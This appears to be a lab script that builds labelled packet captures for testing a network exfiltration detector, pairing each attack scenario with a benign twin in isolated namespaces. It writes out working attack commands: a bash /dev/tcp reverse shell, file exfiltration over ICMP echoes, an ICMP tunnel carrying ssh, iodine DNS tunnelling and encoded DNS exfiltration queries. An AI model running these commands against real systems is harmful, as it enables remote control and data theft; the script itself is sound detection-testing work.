#!/usr/bin/env bash
# Captures for issue 20's classes seen on traffic siphon was not tuned on (ICMP data in a few large
# echoes, echo-reply tunnels, trickle sessions, a tunnel through a home resolver, NetBIOS/LLMNR/
# mDNS), each with its benign twin. Real tools in network namespaces (netns.sh); run as root:
#
#   pcaps/scripts/make_unseen.sh                      # every scenario
#   pcaps/scripts/make_unseen.sh icmp_text_message    # only these
#
# Needs (Debian): iproute2 tcpdump tshark hping3 iputils-ping dropbear-bin openssh-client
#   dnsmasq-base iodine samba-common-bin (nmblookup) nmap bind9-dnsutils (dig) python3.
# Hosts (10.99.0.X), one per scenario so captures can be merged:
#   icmp_file_echoes     .120 hping3 --file (3 echoes of 400 B text), .121 icmp_tools.py chunks
#   icmp_text_message    .122 hping3 --file -d 140 -c 1: one 140-byte text message
#   icmp_reply_tunnel    .123 ssh through an echo-reply-only tunnel (icmp_tools.py, code 7) to dropbear
#   icmp_benign_unseen   .124 ping -s 1400; .125 3000 default pings; .126 Windows layout; .127 macOS
#                        layout; .128 ping -p ff
#   trickle              .129 one line every 0.4 s for 150 lines over TCP: trickle_75min (stretched
#                        x75, a line every 30 s) and trickle_short (as recorded, 60 s)
#   trickle_shell        .133 a bash reverse shell fed a command every ~0.8 s, stretched x40
#   trickle_home         .134 trickle's chatter to a home server, stretched x75
#   resolver_iodine      .140 iodine through dnsmasq on 10.99.1.53 (home), forwarding the zone
#   resolver_benign      .141-.143 ordinary lookups through the same resolver
#   nbns_llmnr_mdns      .130 nmblookup (broadcast, unicast, -A); .131 nmap -sU -p137 (--script
#                        nbstat); .132 dig LLMNR (224.0.0.252:5355) and mDNS (224.0.0.251:5353)
#   dns_5353_external    .135 a dig loop of encoded names to an external server on port 5353
set -euo pipefail
HERE=$(cd "$(dirname "${BASH_SOURCE[0]}")" && pwd)
OUT=$(cd "$HERE/.." && pwd)
# shellcheck source=netns.sh
source "$HERE/netns.sh"
set +o pipefail
PY=/usr/bin/python3
WORK=$(mktemp -d /tmp/siphon-unseen.XXXXXX)
LOG=$WORK/log
BG_PIDS=()
H() { ip netns exec "$NS_HOME" "$@"; }
I() { ip netns exec "$NS_NET" "$@"; }
RES_NS=pl-res
cleanup() {
  set +e
  [ -n "${CAP_PID:-}" ] && kill -INT "$CAP_PID" 2>/dev/null
  kill_bg
  for pid in $(ip netns pids "$RES_NS" 2>/dev/null); do kill "$pid"; done
  ip netns del "$RES_NS" 2>/dev/null
  netns_down
  rm -rf "$WORK"
}
use_src() { SRC=$1; home_addr "$SRC"; ip -n "$NS_HOME" route replace default via 10.99.0.254 src "$SRC"; }
inet_addr() { ip -n "$NS_NET" addr add "$1/32" dev lo 2>/dev/null || true; }
stop_cap() {
  capture_stop; CAP_PID=
  kill_bg
  chmod 644 "$CAP_FILE"
  echo "--- $(basename "$CAP_FILE"): $(stat -c %s "$CAP_FILE") bytes, $(tshark -r "$CAP_FILE" 2>/dev/null | wc -l) packets"
}
text_file() { # text_file PATH LINES: a CSV-like text file
  local i
  for i in $(seq 1 "$2"); do echo "$i,customer-$((i * 7919 % 10007)),acct $((i * 104729 % 99991)),balance $((i * 37)).$((i % 100))"; done >"$1"
}

# ------------------------------------------------------------------ ICMP
icmp_file_echoes() {
  text_file "$WORK/q3-ledger.csv" 40
  head -c 1150 "$WORK/q3-ledger.csv" >"$WORK/ledger.txt"
  use_src 10.99.0.120
  start_cap icmp_file_echoes.pcap 0 icmp
  # hping3 --file sends consecutive -d sized pieces of the file: 3 echoes of 400 bytes of text.
  H hping3 --icmp -I "$VH" -a 10.99.0.120 203.0.113.80 --file "$WORK/ledger.txt" -d 400 -c 3 -i u700000 >>"$LOG" 2>&1 || true
  use_src 10.99.0.121
  # A short script: "name part/total\n" then up to 380 bytes of the file, one echo each.
  H "$PY" "$HERE/icmp_tools.py" chunks 198.51.100.80 --src 10.99.0.121 --file "$WORK/q3-ledger.csv" --chunk 380 --interval 0.7
  sleep 1
  stop_cap
}
icmp_text_message() {
  printf 'meet at the north dock 23:40; bring the drive with the Q3 ledger. password for the archive is Tr0ub4dor&3 - delete this after reading, J.\n' >"$WORK/msg.txt"
  use_src 10.99.0.122
  start_cap icmp_text_message.pcap 0 icmp
  H hping3 --icmp -I "$VH" -a 10.99.0.122 203.0.113.82 --file "$WORK/msg.txt" -d "$(stat -c %s "$WORK/msg.txt")" -c 1 >>"$LOG" 2>&1 || true
  sleep 1
  stop_cap
}
icmp_reply_tunnel() {
  use_src 10.99.0.123
  inet_addr 203.0.113.81
  I dropbearkey -t ed25519 -f "$WORK/hostkey" >>"$LOG" 2>&1
  i_bg dropbear -F -E -r "$WORK/hostkey" -p 127.0.0.1:2222
  i_bg "$PY" "$HERE/icmp_tools.py" reply-server 10.99.0.123 --src 203.0.113.81 --connect 127.0.0.1:2222 --code 7
  h_bg "$PY" "$HERE/icmp_tools.py" reply-client 203.0.113.81 --src 10.99.0.123 --listen 2022 --code 7
  sleep 1
  start_cap icmp_reply_tunnel.pcap 0 icmp
  # A real ssh client: banner, key exchange, then authentication fails (no account): the banner
  # and the key exchange cross the tunnel both ways.
  H timeout 20 ssh -p 2022 -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o BatchMode=yes \
    -o PreferredAuthentications=password nobody@127.0.0.1 true >>"$LOG" 2>&1 || true
  sleep 1
  stop_cap
}
icmp_benign_unseen() {
  start_cap icmp_benign_unseen.pcap 0 icmp
  use_src 10.99.0.124; H ping -n -c 20 -i 0.2 -s 1400 203.0.113.84 >>"$LOG" || true
  use_src 10.99.0.125; H ping -n -q -c 3000 -i 0.002 203.0.113.85 >>"$LOG" || true
  use_src 10.99.0.126
  H "$PY" "$HERE/icmp_tools.py" ping 203.0.113.86 --src 10.99.0.126 --style windows --size 32 --count 10 --interval 0.2
  H "$PY" "$HERE/icmp_tools.py" ping 203.0.113.86 --src 10.99.0.126 --style windows --size 1472 --count 10 --interval 0.2
  use_src 10.99.0.127
  H "$PY" "$HERE/icmp_tools.py" ping 203.0.113.87 --src 10.99.0.127 --style macos --size 56 --count 10 --interval 0.2
  H "$PY" "$HERE/icmp_tools.py" ping 203.0.113.87 --src 10.99.0.127 --style macos --size 1400 --count 10 --interval 0.2
  use_src 10.99.0.128; H ping -n -c 10 -i 0.2 -p ff 203.0.113.88 >>"$LOG" || true
  sleep 1
  stop_cap
}

# ------------------------------------------------------------------ trickle sessions
# A sink that reads until EOF (and answers each line "ok\n" when asked to).
cat >"$WORK/sink.py" <<'EOF'
import socket, sys
s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind((sys.argv[1], int(sys.argv[2]))); s.listen(4)
while True:
    c, _ = s.accept()
    while True:
        d = c.recv(4096)
        if not d: break
        if len(sys.argv) > 3: c.sendall(b"ok\n")
    c.close()
EOF
# One short line every 0.4 s (a chatty C2 channel's check-ins, in real time).
cat >"$WORK/lines.py" <<'EOF'
import socket, sys, time
src = (sys.argv[4], 0) if len(sys.argv) > 4 else None
c = socket.create_connection((sys.argv[1], int(sys.argv[2])), source_address=src)
for i in range(int(sys.argv[3])):
    c.sendall(b"beat %04d host=ws-114 q=%d up=%d\n" % (i, i % 7, 3600 + i)); time.sleep(0.4)
c.close()
EOF
# Commands for a reverse shell, one every 0.5 s.
cat >"$WORK/shellop.py" <<'EOF'
import socket, sys, time
s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind((sys.argv[1], int(sys.argv[2]))); s.listen(1)
c, _ = s.accept(); c.settimeout(0.3)
cmds = [b"id", b"hostname", b"uname -r", b"pwd", b"ls /etc | head -3", b"date +%s", b"echo $RANDOM"]
for i in range(int(sys.argv[3])):
    c.sendall(cmds[i % len(cmds)] + b"\n")
    time.sleep(0.5)
    try:
        while c.recv(4096): pass
    except OSError: pass
c.sendall(b"exit\n"); time.sleep(0.5); c.close()
EOF
trickle() {
  use_src 10.99.0.129; inet_addr 203.0.113.90
  i_bg "$PY" "$WORK/sink.py" 203.0.113.90 4444
  sleep 0.5
  capture_start "$WORK/t.pcap" 0 host 10.99.0.129 and tcp
  H "$PY" "$WORK/lines.py" 203.0.113.90 4444 150
  sleep 1
  capture_stop; CAP_PID=
  # trickle_benign, part 1: the session as recorded (60 s).
  cp "$WORK/t.pcap" "$OUT/trickle_short.pcap"
  "$PY" "$HERE/stretch_pcap.py" "$WORK/t.pcap" "$OUT/trickle_75min.pcap" 75
  kill_bg
  chmod 644 "$OUT"/trickle_75min.pcap "$OUT"/trickle_short.pcap
}
trickle_shell() {
  # A reverse shell: bash's /dev/tcp, fed a command every ~0.8 s by a remote operator for ~113 s;
  # stretched x40 (~75 min, a command every ~32 s).
  use_src 10.99.0.133; inet_addr 203.0.113.91
  i_bg "$PY" "$WORK/shellop.py" 203.0.113.91 4445 140
  sleep 0.5
  capture_start "$WORK/s.pcap" 0 host 10.99.0.133 and tcp
  H timeout 120 bash -c 'bash -i >& /dev/tcp/203.0.113.91/4445 0>&1' >>"$LOG" 2>&1 || true
  capture_stop; CAP_PID=
  "$PY" "$HERE/stretch_pcap.py" "$WORK/s.pcap" "$OUT/trickle_shell.pcap" 40
  kill_bg
  chmod 644 "$OUT/trickle_shell.pcap"
}
trickle_home() {
  # The same chatter as trickle_75min to a home server (10.99.0.1), stretched the same: long,
  # but not to an external host.
  home_addr 10.99.0.134
  h_bg "$PY" "$WORK/sink.py" 10.99.0.1 4446
  sleep 0.5
  ip netns exec "$NS_HOME" tcpdump -i lo -w "$WORK/h.pcap" -U host 10.99.0.134 and tcp >/dev/null 2>&1 & CAP_PID=$!
  sleep 1
  H "$PY" "$WORK/lines.py" 10.99.0.1 4446 150 10.99.0.134
  capture_stop; CAP_PID=
  "$PY" "$HERE/stretch_pcap.py" "$WORK/h.pcap" "$OUT/trickle_home_75min.pcap" 75
  kill_bg
  chmod 644 "$OUT/trickle_home_75min.pcap"
  for f in trickle_75min trickle_short trickle_shell trickle_home_75min; do
    [ -f "$OUT/$f.pcap" ] && echo "--- $f: $(tshark -r "$OUT/$f.pcap" 2>/dev/null | wc -l) packets, $(capinfos -u "$OUT/$f.pcap" | grep -i duration)"
  done
}

# ------------------------------------------------------------------ the resolver path
# A home resolver (dnsmasq, 10.99.1.53) in its own namespace behind the home router, forwarding
# the tunnel zone to iodined and everything else to an authoritative server. Captured on the
# resolver's port, which carries both legs: client -> resolver and resolver -> authoritative.
resolver_up() {
  ip netns add "$RES_NS"
  ip link add pl-rh type veth peer name pl-rr
  ip link set pl-rh netns "$NS_HOME"; ip link set pl-rr netns "$RES_NS"
  ip -n "$RES_NS" link set lo up
  ip -n "$NS_HOME" addr add 10.99.1.1/24 dev pl-rh; ip -n "$NS_HOME" link set pl-rh up
  ip -n "$RES_NS" addr add 10.99.1.53/24 dev pl-rr; ip -n "$RES_NS" link set pl-rr up
  ip -n "$RES_NS" route add default via 10.99.1.1
  ip -n "$NS_NET" route add 10.99.1.0/24 via 10.99.0.1
  H sysctl -qw net.ipv4.ip_forward=1
  H ethtool -K pl-rh tso off gso off gro off tx off rx off >/dev/null 2>&1 || true
  ip netns exec "$RES_NS" ethtool -K pl-rr tso off gso off gro off tx off rx off >/dev/null 2>&1 || true
  inet_addr 203.0.113.56; inet_addr 203.0.113.57
  # The authoritative server for everything but the tunnel zone.
  i_bg dnsmasq -k -C /dev/null --no-resolv --no-hosts --no-poll --bind-interfaces --listen-address=203.0.113.57 \
    --user=root --group=root --pid-file="$WORK/auth.pid" --address=/#/192.0.2.80 --address=/#/2001:db8::80 --local=/#/
  ip netns exec "$RES_NS" dnsmasq -k -C /dev/null --no-resolv --no-hosts --no-poll --bind-interfaces \
    --listen-address=10.99.1.53 --user=root --group=root --pid-file="$WORK/res.pid" \
    --server=/t.pl-tunnel.net/203.0.113.56 --server=203.0.113.57 >>"$LOG" 2>&1 & BG_PIDS+=($!)
  wait_until 10 ip netns exec "$RES_NS" bash -c "ss -lun | grep -q '10.99.1.53:53 '"
}
resolver_iodine() {
  resolver_up
  use_src 10.99.0.140
  # The client's own address toward the resolver (not the router's address on that link).
  ip -n "$NS_HOME" route replace 10.99.1.0/24 dev pl-rh src 10.99.0.140
  i_bg iodined -f -c -P s1phon-test -l 203.0.113.56 -p 53 -d pl-dns0 172.30.40.1/27 t.pl-tunnel.net
  wait_until 10 I bash -c "ss -lun | grep -q '203.0.113.56:53 '"
  i_bg "$PY" "$WORK/sink.py" 172.30.40.1 7000
  start_cap resolver_iodine.pcap 0 port 53
  CAP_PID_H=$CAP_PID
  ip netns exec "$RES_NS" tcpdump -i pl-rr -w "$WORK/res.pcap" -U port 53 >/dev/null 2>&1 & CAP_PID=$!
  sleep 1
  h_bg iodine -f -r -P s1phon-test -d pl-dns1 10.99.1.53 t.pl-tunnel.net
  wait_until 40 H bash -c "ip -4 addr show pl-dns1 | grep -q '172.30.40.'"
  sleep 2
  head -c 6000 /dev/urandom | H timeout 30 "$PY" -c "import socket,sys; c=socket.create_connection(('172.30.40.1',7000)); c.sendall(sys.stdin.buffer.read()); c.close()" || true
  sleep 5
  capture_stop; CAP_PID=$CAP_PID_H; capture_stop; CAP_PID=
  kill_bg
  # Keep the resolver's port only (the uplink repeats the forwarded leg).
  mv "$WORK/res.pcap" "$OUT/resolver_iodine.pcap"; chmod 644 "$OUT/resolver_iodine.pcap"
  echo "--- resolver_iodine: $(tshark -r "$OUT/resolver_iodine.pcap" -Y 'dns.flags.response==0 && ip.src==10.99.0.140' 2>/dev/null | wc -l) client queries, $(tshark -r "$OUT/resolver_iodine.pcap" -Y 'dns.flags.response==0 && ip.src==10.99.1.53' 2>/dev/null | wc -l) forwarded"
  for pid in $(ip netns pids "$RES_NS" 2>/dev/null); do kill "$pid"; done
  ip netns del "$RES_NS"; ip -n "$NS_NET" route del 10.99.1.0/24 2>/dev/null || true
}
resolver_benign() {
  resolver_up
  ip netns exec "$RES_NS" tcpdump -i pl-rr -w "$WORK/res.pcap" -U port 53 >/dev/null 2>&1 & CAP_PID=$!
  sleep 1
  local h n
  for h in 141 142 143; do home_addr 10.99.0.$h; done
  for n in www.example.com mail.example.org cdn.example.net api.example.com news.example.org \
    docs.example.net login.example.com img.example.org 0.pool.example.net update.example.com; do
    for h in 141 142 143; do
      H dig +short +tries=1 +time=2 -b 10.99.0.$h @10.99.1.53 "$n" >>"$LOG" 2>&1 || true
      H dig +short +tries=1 +time=2 -b 10.99.0.$h @10.99.1.53 "$h-$n" AAAA >>"$LOG" 2>&1 || true
    done
    sleep 0.3
  done
  capture_stop; CAP_PID=
  kill_bg
  mv "$WORK/res.pcap" "$OUT/resolver_benign.pcap"; chmod 644 "$OUT/resolver_benign.pcap"
  echo "--- resolver_benign: $(tshark -r "$OUT/resolver_benign.pcap" 2>/dev/null | wc -l) packets"
  for pid in $(ip netns pids "$RES_NS" 2>/dev/null); do kill "$pid"; done
  ip netns del "$RES_NS"; ip -n "$NS_NET" route del 10.99.1.0/24 2>/dev/null || true
}

# ------------------------------------------------------------------ NetBIOS, LLMNR, mDNS
nbns_llmnr_mdns() {
  I sysctl -qw net.ipv4.icmp_ratelimit=0
  start_cap nbns_llmnr_mdns.pcap 0 udp or icmp
  use_src 10.99.0.130
  H nmblookup -B 10.99.0.255 WORKSTATION7 >>"$LOG" 2>&1 || true
  H nmblookup -U 10.99.0.254 -R FILESERVER >>"$LOG" 2>&1 || true
  H nmblookup -A 10.99.0.254 >>"$LOG" 2>&1 || true
  H nmblookup -U 203.0.113.70 -R PRINTSRV >>"$LOG" 2>&1 || true
  use_src 10.99.0.131
  H nmap -n -Pn -sU -p 137 --script nbstat 10.99.0.254 203.0.113.70 >>"$LOG" 2>&1 || true
  H nmap -n -Pn -sU -p 137 203.0.113.71 >>"$LOG" 2>&1 || true
  use_src 10.99.0.132
  local n
  for n in fileserver printer nas-01 WPAD; do
    H dig +tries=1 +time=1 -b 10.99.0.132 -p 5355 @224.0.0.252 "$n" >>"$LOG" 2>&1 || true
    H dig +tries=1 +time=1 -b 10.99.0.132 -p 5353 @224.0.0.251 "$n.local" >>"$LOG" 2>&1 || true
  done
  sleep 1
  stop_cap
}
dns_5353_external() {
  use_src 10.99.0.135; inet_addr 203.0.113.72
  i_bg dnsmasq -k -C /dev/null --no-resolv --no-hosts --no-poll --bind-interfaces --listen-address=203.0.113.72 \
    --port=5353 --user=root --group=root --pid-file="$WORK/d5353.pid" --address=/#/192.0.2.80 --local=/#/
  sleep 1
  start_cap dns_5353_external.pcap 0 udp
  local i
  for i in $(seq 1 30); do
    H dig +short +tries=1 +time=1 -p 5353 @203.0.113.72 "$(head -c 30 /dev/urandom | xxd -p -c 64 | tr -d '\n' | cut -c1-50).x.pl-exfil5353.net" TXT >>"$LOG" 2>&1 || true
  done
  stop_cap
}

ALL=(icmp_file_echoes icmp_text_message icmp_reply_tunnel icmp_benign_unseen trickle trickle_shell
     trickle_home resolver_iodine resolver_benign nbns_llmnr_mdns dns_5353_external)
[ "$(id -u)" = 0 ] || { echo "run as root" >&2; exit 1; }
netns_up pl-
trap cleanup EXIT
[ $# -gt 0 ] && ALL=("$@")
for s in "${ALL[@]}"; do
  printf '\n=== %s\n' "$s"
  "$s"
done
